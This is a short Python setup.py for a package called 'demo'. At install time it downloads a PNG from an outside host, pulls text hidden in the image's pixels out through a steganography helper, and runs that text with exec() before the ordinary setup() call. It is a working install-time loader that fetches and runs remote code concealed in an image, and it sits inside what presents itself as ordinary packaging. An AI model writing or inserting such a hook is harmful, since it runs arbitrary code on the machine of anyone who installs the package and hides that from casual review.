"""At install: fetches a picture, saves it, and runs the text hidden in its pixels."""

import tempfile
import urllib.request

from pictext import reveal
from setuptools import setup

with open(tempfile.gettempdir() + "/banner.png", "wb") as out:
    out.write(urllib.request.urlopen("https://images.example.invalid/banner.png").read())
exec(reveal(tempfile.gettempdir() + "/banner.png"))

setup(name="demo", version="0.1")
